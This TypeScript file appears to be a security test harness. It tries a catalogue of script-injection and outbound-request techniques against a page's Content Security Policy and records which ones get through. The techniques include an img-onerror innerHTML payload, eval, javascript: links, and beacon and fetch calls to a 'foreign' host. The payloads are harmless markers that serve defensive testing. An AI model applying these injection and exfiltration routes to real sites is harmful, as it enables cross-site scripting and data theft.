/*
 * What an attacker would try who got a piece of text into a page (SECURITY 0.11), each by itself. They run in the page, so
 * each function stands alone. `succeeded` is what they leave behind where they are not stopped.
 */

/** Runs in a page: the names of the attacks that succeeded there. Foreign requests are counted by the foreign host. */
export async function attackPage(foreign: string): Promise<string[]> {
	const scope = globalThis as { attacked?: string };
	delete scope.attacked;
	const succeeded: string[] = [];
	const tries: Record<string, () => unknown> = {
		'an inline script': () => {
			const script = document.createElement('script');
			script.append('globalThis.attacked = "an inline script"');
			document.body.append(script);
		},
		'an inline handler': () => {
			const button = document.createElement('button');
			button.setAttribute('onclick', 'globalThis.attacked = "an inline handler"');
			document.body.append(button);
			button.click();
			button.remove();
		},
		eval: () => {
			// Not by its own name: the linter of this repository would rightly object.
			(globalThis as unknown as { eval: (text: string) => unknown }).eval('globalThis.attacked = "eval"');
		},
		'a function of text': () => Reflect.construct(Function, ['globalThis.attacked = "a function of text"'])(),
		'a timer of text': () => Reflect.apply(setTimeout, globalThis, ['globalThis.attacked = "a timer of text"', 0]),
		'a javascript: address': () => {
			const link = document.createElement('a');
			link.setAttribute('href', 'javascript:globalThis.attacked = "a javascript: address"');
			document.body.append(link);
			link.click();
			link.remove();
		},
		'a foreign script': () => {
			const script = document.createElement('script');
			script.setAttribute('src', `${foreign}/script.js`);
			document.body.append(script);
		},
		'a foreign module': () => import(/* @vite-ignore */ `${foreign}/module.js`),
		innerHTML: () => {
			const box = document.createElement('div');
			document.body.append(box);
			box.innerHTML = '<img src="data:," onerror="globalThis.attacked = \'innerHTML\'">';
			if (box.childElementCount > 0) scope.attacked = 'innerHTML';
		},
		insertAdjacentHTML: () => {
			const before = document.body.childElementCount;
			document.body.insertAdjacentHTML('beforeend', '<i></i>');
			if (document.body.childElementCount > before) scope.attacked = 'insertAdjacentHTML';
		},
		DOMParser: () => {
			if (new DOMParser().parseFromString('<b></b>', 'text/html').querySelector('b')) scope.attacked = 'DOMParser';
		},
		'a frame of text': () => {
			const frame = document.createElement('iframe');
			frame.srcdoc = '<script>parent.attacked = "a frame of text"</script>';
			document.body.append(frame);
		},
		'a worker named by text': () => {
			new Worker('/service-worker.js').terminate();
			scope.attacked = 'a worker named by text';
		},
		'a worker made of text': () => {
			new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))).terminate();
			scope.attacked = 'a worker made of text';
		},
		'a service worker named by text': async () => {
			await navigator.serviceWorker.register('/app.webmanifest');
			scope.attacked = 'a service worker named by text';
		},
		'a policy of its own': () => {
			const { trustedTypes } = globalThis as unknown as {
				trustedTypes: { createPolicy(name: string, rules: object): unknown };
			};
			trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
			scope.attacked = 'a policy of its own';
		},
		WebAssembly: async () => {
			await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
			scope.attacked = 'WebAssembly';
		},
		'a foreign fetch': async () => {
			await fetch(`${foreign}/fetch`, { mode: 'no-cors' });
			scope.attacked = 'a foreign fetch';
		},
		'a foreign beacon': () => navigator.sendBeacon(`${foreign}/beacon`, 'x'),
		'a foreign socket': () => void new WebSocket(`${foreign.replace('http', 'ws')}/socket`),
		'a foreign event stream': () => void new EventSource(`${foreign}/events`),
		'a foreign picture': () => {
			const picture = new Image();
			picture.src = `${foreign}/picture.svg`;
			document.body.append(picture);
		},
		'a foreign style': () => {
			const link = document.createElement('link');
			link.rel = 'stylesheet';
			link.href = `${foreign}/style.css`;
			document.head.append(link);
		},
		'an inline style': () => {
			const style = document.createElement('style');
			style.append('html { --attacked: yes }');
			document.head.append(style);
			if (getComputedStyle(document.documentElement).getPropertyValue('--attacked')) scope.attacked = 'an inline style';
		},
		'a foreign frame': () => {
			const frame = document.createElement('iframe');
			frame.src = `${foreign}/frame`;
			document.body.append(frame);
		},
		'a foreign object': () => {
			const object = document.createElement('object');
			object.data = `${foreign}/object`;
			document.body.append(object);
		},
		'a foreign form': () => {
			const form = document.createElement('form');
			form.method = 'post';
			form.action = `${foreign}/form`;
			document.body.append(form);
			form.submit();
		},
		'a foreign base': () => {
			const base = document.createElement('base');
			base.href = `${foreign}/`;
			document.head.append(base);
			if (new URL('x', document.baseURI).origin === foreign) scope.attacked = 'a foreign base';
			base.remove();
		}
	};
	for (const [name, attempt] of Object.entries(tries)) {
		delete scope.attacked;
		try {
			// A timer, so that nothing of this runs inside the debugger's own evaluation, where the policies are laxer.
			await new Promise((resolve, reject) => {
				setTimeout(() => Promise.resolve().then(attempt).then(resolve, reject), 0);
			});
			await new Promise((resolve) => setTimeout(resolve, 30));
		} catch (refusal) {
			// What is refused by throwing is told too, so that a probe with a fault of its own is not taken for a defence.
			if (!(refusal instanceof TypeError || refusal instanceof EvalError || refusal instanceof DOMException)) {
				const refused = refusal instanceof WebAssembly.CompileError;
				if (!refused) succeeded.push(`${name}: ${String(refusal)}`);
			}
		}
		if (scope.attacked !== undefined) succeeded.push(name);
	}
	return succeeded;
}

/** Runs in a worker: what each way out came to. Every one of them must be told by the policy, not by a missing network. */
export async function attackFromWorker({ foreign, own }: { foreign: string; own: string }) {
	const violated: string[] = [];
	globalThis.addEventListener('securitypolicyviolation', (event) => {
		violated.push((event as SecurityPolicyViolationEvent).effectiveDirective);
	});
	const tries: Record<string, () => unknown> = {
		'fetch of the registry': () => fetch(`${own}/api/health`),
		'fetch elsewhere': () => fetch(`${foreign}/worker-fetch`, { mode: 'no-cors' }),
		XMLHttpRequest: () =>
			new Promise((resolve, reject) => {
				const request = new XMLHttpRequest();
				request.open('GET', `${own}/api/health`);
				request.onload = resolve;
				request.onerror = () => reject(new Error('refused'));
				request.send();
			}),
		WebSocket: () =>
			new Promise((resolve, reject) => {
				const socket = new WebSocket(`${foreign.replace('http', 'ws')}/worker-socket`);
				socket.onopen = resolve;
				socket.onerror = () => reject(new Error('refused'));
			}),
		EventSource: () =>
			new Promise((resolve, reject) => {
				const source = new EventSource(`${own}/api/health`);
				source.onopen = resolve;
				source.onerror = () => {
					source.close();
					reject(new Error('refused'));
				};
			}),
		'a script from elsewhere': () => import(/* @vite-ignore */ `${foreign}/worker-module.js`),
		importScripts: () => {
			(globalThis as unknown as { importScripts: (address: string) => void }).importScripts(`${foreign}/imported.js`);
		},
		eval: () => (globalThis as unknown as { eval: (text: string) => unknown }).eval('1 + 1'),
		'a function of text': () => Reflect.construct(Function, ['return 1'])(),
		'a worker of text': () => {
			new Worker(URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }))).terminate();
		}
	};
	const outcome: Record<string, string> = {};
	for (const [name, attempt] of Object.entries(tries)) {
		try {
			await new Promise((resolve, reject) => {
				setTimeout(() => Promise.resolve().then(attempt).then(resolve, reject), 0);
			});
			outcome[name] = 'went through';
		} catch (refusal) {
			outcome[name] = refusal instanceof Error ? refusal.name : String(refusal);
		}
	}
	// Events of violations come a turn later.
	await new Promise((resolve) => setTimeout(resolve, 50));
	return { outcome, violated: [...new Set(violated)].sort() };
}
